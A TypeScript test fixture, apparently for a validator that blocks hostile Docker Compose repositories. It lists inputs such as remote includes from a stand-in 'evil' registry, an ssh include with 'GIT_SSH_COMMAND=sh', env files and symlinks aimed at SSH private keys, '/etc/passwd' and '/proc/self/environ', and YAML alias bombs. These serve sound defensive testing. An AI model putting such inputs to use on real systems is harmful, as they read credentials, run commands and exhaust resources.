import type { Files } from './compose.ts';

const SERVICE = 'services:\n  app:\n    image: "a:1"\n';

/** A repository that must not reach Compose's loader. */
export interface HostileRepository {
  name: string;
  files: Files;
  rule: string;
  line?: number;
}

const compose = (name: string, rule: string, text: string, more: Files = {}, line?: number): HostileRepository => {
  return { name, rule, files: { 'compose.yaml': text, ...more }, line };
};
const included = (path: string): string => `include:\n  - ${path}\n${SERVICE}`;
const envFile = (path: string): string => `${SERVICE}    env_file: ${path}\n`;
const bomb = (leaf: string, wrap: (name: string) => string): string => {
  const levels = Array.from({ length: 8 }, (_, level) => `x-${level + 1}: &a${level + 1} ${wrap(`*a${level}`)}\n`);
  return `x-0: &a0 ${leaf}\n${levels.join('')}${SERVICE}`;
};
const times = (count: number, of: (index: number) => string): string =>
  Array.from({ length: count }, (_, n) => of(n)).join('');

export const HOSTILE: readonly HostileRepository[] = [
  compose(
    'an include over SSH',
    'include-remote',
    included('ssh://git@127.0.0.1:9/x/y.git'),
    { '.env': 'GIT_SSH_COMMAND=sh' },
    1,
  ),
  compose('an include from a registry', 'include-remote', included('oci://evil/app'), {}, 1),
  compose('an include from a host', 'include-remote', included('github.com/a/b')),
  compose('an include by scp', 'include-remote', included('git@github.com:a/b')),
  compose('an include of a git file', 'include-remote', included('./b.git#main')),
  compose('a hidden include', 'yaml-invalid', included('!!binary b2NpOi8vZXZpbC9hcHA=')),
  compose(
    'an include by a merge key',
    'include-remote',
    `x-i: &i { path: "oci://evil/app" }\ninclude:\n  - <<: *i\n${SERVICE}`,
  ),
  compose('an include in a second document', 'include-remote', `${SERVICE}---\n${included('oci://evil/app')}`),
  compose(
    'a remote extends',
    'include-remote',
    `${SERVICE}    extends: { file: "https://x/y.yaml", service: b }\n`,
    {},
    4,
  ),
  ...['\r', '\u0085', '\u2028', '\u2029'].map((end) =>
    compose(
      `an include behind the line break U+${end.charCodeAt(0).toString(16)}`,
      'yaml-invalid',
      `# a${end}${included('oci://evil/app')}`,
    ),
  ),
  ...[
    '"incl\\u0075de": ["oci://evil"]',
    '? >-\n include\n: ["oci://evil"]',
    '!!str include: ["oci://evil"]',
    '&k include: ["oci://evil"]',
    '<<: { include: ["oci://evil"] }',
    'x-a: &a oci://evil\ninclude: [*a]',
    'x-a: |-9\n         a\ninclude:\n- >-\n  oci://evil',
  ].map((text) => compose(`an include written as ${JSON.stringify(text)}`, 'include-remote', `${text}\n${SERVICE}`)),
  compose('an include behind an alias', 'yaml-key', `x-k: &k include\n*k : ["oci://evil"]\n${SERVICE}`),
  compose('an include out of the repository', 'path-outside', included('../../other/compose.yml')),
  compose(
    'an include through its own folder',
    'path-outside',
    `include:\n  - path: a.yaml\n    project_directory: ../..\n${SERVICE}`,
  ),
  compose('an extends of a system file', 'path-outside', `${SERVICE}    extends: { file: /etc/x.yml, service: a }\n`),
  compose('a file of variables outside', 'path-outside', envFile('../../etc/passwd'), {}, 4),
  compose('an optional file of variables', 'path-outside', envFile('{ path: /root/.ssh/id_rsa, required: false }')),
  compose('a file of variables at home', 'path-outside', envFile('~/.ssh/id_rsa')),
  compose('a file of labels outside', 'path-outside', `${SERVICE}    label_file: ../labels\n`),
  compose('a file of variables behind an alias', 'path-outside', `x-e: &e [../x]\n${envFile('*e')}`),
  compose('a path with a variable', 'path-variable', envFile(`.env.${'$'}{NODE_ENV}`)),
  compose(
    'an extended file that includes outside',
    'path-outside',
    `${SERVICE}    extends: { file: sub/b.yaml, service: b }\n`,
    {
      'sub/b.yaml': 'services: { b: { env_file: ../../x } }\n',
    },
  ),
  compose('a .env that is a link', 'file-symlink', SERVICE, { '.env': { link: '/proc/self/environ' } }),
  compose('a file of variables that is a link', 'file-symlink', envFile('e.env'), { 'e.env': { link: '/dev/zero' } }),
  compose('a folder that is a link', 'file-symlink', included('sub/a.yaml'), { sub: { link: '/etc' } }),
  { name: 'a Compose file that is a link', files: { 'compose.yaml': { link: '/etc/passwd' } }, rule: 'file-symlink' },
  { name: 'a Compose file without end', files: { 'compose.yaml': { link: '/dev/zero' } }, rule: 'file-symlink' },
  { name: 'a Compose file that is a folder', files: { 'compose.yaml': null }, rule: 'file-kind' },
  compose('a huge file of variables', 'file-size', envFile('e.env'), { 'e.env': 'A=1\n'.repeat(20_000) }),
  compose('a huge Compose file', 'file-size', `${SERVICE}${'# much ado\n'.repeat(30_000)}`),
  compose('a cycle of includes', 'include-limit', included('a.yaml'), { 'a.yaml': 'include: [compose.yaml]\n' }),
  compose('six includes', 'include-limit', `include: [1, 2, 3, 4, 5, 6]\n${SERVICE}`),
  compose('includes four levels deep', 'include-limit', included('1.yaml'), {
    '1.yaml': 'include: [2.yaml]\n',
    '2.yaml': 'include: [3.yaml]\n',
    '3.yaml': 'include: [4.yaml]\n',
    '4.yaml': SERVICE,
  }),
  compose(
    'a bomb of aliases',
    'yaml-limit',
    bomb('[a, b, c, d, e, f, g, h, i]', (name) => `[${times(9, () => `${name}, `)}]`),
  ),
  compose(
    'a bomb of merge keys',
    'yaml-limit',
    bomb('{ a: 1 }', (name) => `{ ${times(7, (n) => `k${n}: ${name}, `)} }`),
  ),
  compose(
    'defaults 3,000 deep',
    'yaml-limit',
    `${SERVICE}    command: "${'${A:-'.repeat(3000)}${'}'.repeat(3000)}"\n`,
    {},
    4,
  ),
  compose('30,000 variables in a value', 'yaml-limit', `${SERVICE}    command: "${'${A:-x}'.repeat(30_000)}"\n`),
  compose('300 aliases', 'yaml-limit', `x-a: &a 1\nx-b: [${times(300, () => '*a, ')}]\n${SERVICE}`),
  compose('brackets 20,000 deep', 'yaml-limit', `x-a: ${'['.repeat(20_000)}`),
  compose('dashes 20,000 deep', 'yaml-limit', `x-a:\n  ${'- '.repeat(20_000)}a\n`),
  compose(
    'indentation 100 deep',
    'yaml-limit',
    times(100, (n) => `${' '.repeat(n)}x-a:\n`),
  ),
  compose('30,000 entries', 'yaml-limit', `x-a: [${'a, '.repeat(30_000)}]\n`),
  compose(
    '40 times all ports',
    'ports-limit',
    `services:\n${times(40, (n) => `  s${n}: { image: "a:1", ports: ["1-65535"] }\n`)}`,
  ),
  compose('a key twice', 'yaml-invalid', `${SERVICE}    image: b\n`, {}, 4),
  compose('a NUL byte', 'yaml-invalid', `${SERVICE}# \0\n`),
  {
    name: 'UTF-16',
    files: { 'compose.yaml': { bytes: Buffer.from(`\uFEFF${SERVICE}`, 'utf16le') } },
    rule: 'yaml-invalid',
  },
  {
    name: 'Latin-1',
    files: { 'compose.yaml': { bytes: Buffer.from(`# contrase\u00f1a\n${SERVICE}`, 'latin1') } },
    rule: 'yaml-invalid',
  },
  compose('a key with a variable', 'yaml-key', `${SERVICE}    environment: { "A$B": 1 }\n`, {}, 4),
  compose('a key with a control character', 'yaml-key', `${SERVICE}    environment: { "A\\nB": 1 }\n`),
  compose('a key of 300 characters', 'yaml-key', `${SERVICE}    environment: { ${'A'.repeat(300)}: 1 }\n`),
  compose('broken YAML that names further files', 'yaml-invalid', `${envFile('a.env')}  broken: [\n`),
];
